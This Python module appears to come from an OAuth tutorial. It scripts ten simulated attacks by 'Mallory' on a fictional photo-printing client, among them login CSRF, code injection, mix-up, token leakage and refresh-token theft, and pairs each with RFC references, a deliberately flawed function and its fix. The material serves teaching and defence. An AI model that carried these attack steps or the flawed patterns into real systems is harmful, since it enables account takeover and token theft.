"""The ten attacks: what Mallory does, which PrintShop falls to it, what fixes it."""

from typing import Any

import requests

from oauth_tutorial.client.pkce import new_code_verifier
from oauth_tutorial.exercises.attacks import flawed
from oauth_tutorial.exercises.attacks.attack import Attack
from oauth_tutorial.exercises.attacks.mallory import Browser, Mallory, query_of
from oauth_tutorial.exercises.attacks.shop import renew_tokens, same
from oauth_tutorial.exercises.attacks.site import ShopSite

Got = requests.Response | None

always_the_same = flawed.new_verifier  # PKCE in name only

ALICES_ALBUM = "she sees Alice's photos: {photos}."


def _login_csrf(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Bring Alice into Mallory's account."""
    answer = mallory.catch(mallory, shop)  # her own sign-in, stopped at the last step
    return alice.visit(shop.callback(answer))  # a link in a mail to Alice


def _code_interception(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Take the code of the phone's other app."""
    answer = mallory.catch(alice, shop)  # her app on Alice's phone gets the redirect
    form = {
        "grant_type": "authorization_code",
        "code": answer["code"],
        "redirect_uri": shop.redirect_uri,
        **shop.app.credentials,  # she took PrintShop's app apart
    }
    guess, _ = shop.app.begin_sign_in()  # and runs it herself: is it the same each time?
    tokens = mallory.exchange(**form) or mallory.exchange(**form, code_verifier=guess)
    return mallory.see_photos(tokens)


def _code_injection(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Put Alice's code into Mallory's own sign-in."""
    stolen = mallory.catch(alice, shop)["code"]
    answer = mallory.catch(mallory, shop)  # her own sign-in, with a state that is right
    return mallory.visit(shop.callback(answer | {"code": stolen}))


def _code_replay(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Use a code again that Alice has used."""
    alice.sign_in(shop.login)  # on a computer in the library
    address = next(one for one in alice.history if "code=" in one)
    answer = mallory.catch(mallory, shop)
    return mallory.visit(shop.callback(answer | {"code": query_of(address)["code"]}))


def _open_redirect(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Let PhotoBox deliver the code to Mallory."""
    wanted = f"{mallory.address}/callback-of-mallory"
    request, verifier = mallory.write_request(shop, redirect_uri=wanted)  # PKCE is hers, too
    alice.sign_in(mallory.link(request))  # the link leads to PhotoBox, as it should
    return mallory.see_photos(mallory.exchange_caught(request, code_verifier=verifier))


def _mix_up(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Let PrintShop send Alice's code to EvilBox."""
    alice.sign_in(f"{shop.login}?with=evilbox")  # EvilBox sends her on to PhotoBox
    form = next((one.form for one in mallory.received if one.path == "/token"), {})
    return mallory.see_photos(mallory.exchange(**form)) if form else None


def _token_leak(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Look for the token in three places that keep addresses."""
    alice.sign_in(shop.login)
    referers = [request.referer for request in mallory.received]  # of the advertisement
    addresses = [*referers, *shop.access_log, *alice.history]
    leaked = [query_of(one) for one in addresses if "access_token=" in one]
    return mallory.see_photos(leaked[0] if leaked else {})


def _stolen_refresh_token(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Live on a refresh token from a backup."""
    alice.sign_in(shop.login)
    tokens = mallory.renew(shop.newest_tokens)  # she found a backup of PrintShop's database
    mallory.photobox.clock.advance(hours=2)
    alice.visit(shop.album)  # Alice comes back
    return mallory.see_photos(mallory.renew(tokens))  # does Mallory, too?


def _stolen_access_token(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Use an access token from a log of PrintShop."""
    alice.sign_in(shop.login)
    return mallory.see_photos(shop.newest_tokens)


def _scope_creep(shop: ShopSite, alice: Browser, mallory: Mallory) -> Got:
    """Order prints with a token that should only show photos."""
    alice.sign_in(shop.login)  # she reads “Show you offers”, and approves
    return mallory.order(shop.newest_tokens)


def _attack(name: str, story: str, sections: tuple[str, str], **rest: Any) -> Attack:
    section_9700, section_6819 = sections
    return Attack(
        name=name,
        story=story,
        section_9700=f"RFC 9700 {section_9700}",
        section_6819=f"RFC 6819 {section_6819}",
        **({"proof": "White rabbit", "loss": ALICES_ALBUM} | rest),
    )


login_csrf = _attack(
    "Login CSRF",
    "Mallory signs in to PhotoBox, and stops before the last redirect. She sends that address to "
    "Alice, who opens it, and is in Mallory's account without knowing.",
    ("§4.7", "§4.4.1.8"),
    steps=_login_csrf,
    flaw={"check_state": flawed.is_mine, "verifier": None},
    fix={"check_state": same},
    code=flawed.is_mine,
    seam="check_state",
    on_alice=True,
    proof="New bridge",
    loss="Alice is in Mallory's account, and sees {photos}. What she adds there, Mallory has.",
)
code_interception = _attack(
    "Code interception",
    "PrintShop's app has its secret inside, so everybody has it. Mallory's app on the same phone "
    "catches the redirect, and exchanges the code before PrintShop does.",
    ("§2.1.1", "§4.4.1.1"),
    steps=_code_interception,
    flaw={"verifier": None, "begin": flawed.begin},
    fix={"verifier": new_code_verifier, "begin": None},
    code=flawed.begin,
    besides=(flawed.token_request,),
    seam="begin",
)
code_injection = _attack(
    "Code injection",
    "Mallory has Alice's code, and no secret. She starts a sign-in of her own at PrintShop, and "
    "puts Alice's code into the last redirect.",
    ("§4.5", "§4.4.1.13"),
    steps=_code_injection,
    flaw={"verifier": flawed.new_verifier},
    fix={"verifier": new_code_verifier},
    code=flawed.new_verifier,
    seam="verifier",
)
code_replay = _attack(
    "Replay of a code",
    "PrintShop wants the reload of a page to work, so a code that came before opens the session "
    "again. Mallory finds such a code in the history of a computer in the library.",
    ("§4.3.1", "§4.4.1.1"),
    steps=_code_replay,
    flaw={"open_session": flawed.open_session},
    fix={"remembers_codes": False, "open_session": None},
    code=flawed.open_session,
    seam="open_session",
)
open_redirect = _attack(
    "Loose redirect URI",
    "PhotoBox was told to compare only how PrintShop's redirect URI begins. Mallory writes a link "
    "to PhotoBox that is good in all but its end, and the code comes to her.",
    ("§4.1", "§4.4.1.7"),
    steps=_open_redirect,
    flaw={"compare": flawed.same_address},
    fix={"loosely_registered": False, "compare": None},
    code=flawed.same_address,
    whose="PhotoBox",
    seam="compare",
)
mix_up = _attack(
    "Mix-up",
    "PrintShop works with two servers, PhotoBox and EvilBox, and EvilBox is Mallory's. Alice "
    "chooses EvilBox, which sends her on to PhotoBox; PrintShop takes the answer for EvilBox's.",
    ("§4.4", "§4.2.1"),
    steps=_mix_up,
    flaw={"check_issuer": flawed.same_server},
    fix={"check_issuer": same},
    code=flawed.same_server,
    seam="check_issuer",
)
token_leak = _attack(
    "Leaked token",
    "The address of PrintShop's album carries the access token. Addresses are kept: by the "
    "browser, by PrintShop's access log, and by the server of each picture, which is told the "
    "Referer.",
    ("§4.2, §4.3.2", "§4.6.7"),
    steps=_token_leak,
    loss="the token stood in the Referer, the access log or the history; " + ALICES_ALBUM,
    flaw={"album_address": flawed.album_address},
    fix={"token_in_address": False, "album_address": None},
    code=flawed.album_address,
    seam="album_address",
)
stolen_refresh_token = _attack(
    "Stolen refresh token",
    "Mallory finds a refresh token in a backup. PrintShop lets Alice sign in again each time and "
    "never uses its own copy, so nobody notices the second user.",
    ("§4.14", "§4.1.2"),
    steps=_stolen_refresh_token,
    flaw={"renew": flawed.renew},
    fix={"renew": renew_tokens},
    code=flawed.renew,
    seam="renew",
)
stolen_access_token = _attack(
    "Stolen access token",
    "A bearer token opens the API for whoever bears it. Mallory copies one out of a log.",
    ("§4.10.1", "§4.1.3"),
    steps=_stolen_access_token,
    flaw={"call_headers": flawed.call_headers},
    fix={"dpop": True, "call_headers": None},
    code=flawed.call_headers,
    seam="call_headers",
)
scope_creep = _attack(
    "Scope creep",
    "PrintShop asks for more than it needs, to be ready for later, and the consent page has "
    "friendly words for it. Whoever gets hold of the token has all of it.",
    ("§2.3", "§4.2.2"),
    steps=_scope_creep,
    flaw={"scope_for": flawed.scope_for},
    fix={"scope": "photos.read", "scope_for": None},
    code=flawed.scope_for,
    seam="scope_for",
    proof='"copies":',
    loss="she orders {prints}, and Alice pays.",
    lie=True,
)

ATTACKS = (
    login_csrf,
    code_interception,
    code_injection,
    code_replay,
    open_redirect,
    mix_up,
    token_leak,
    stolen_refresh_token,
    stolen_access_token,
    scope_creep,
)
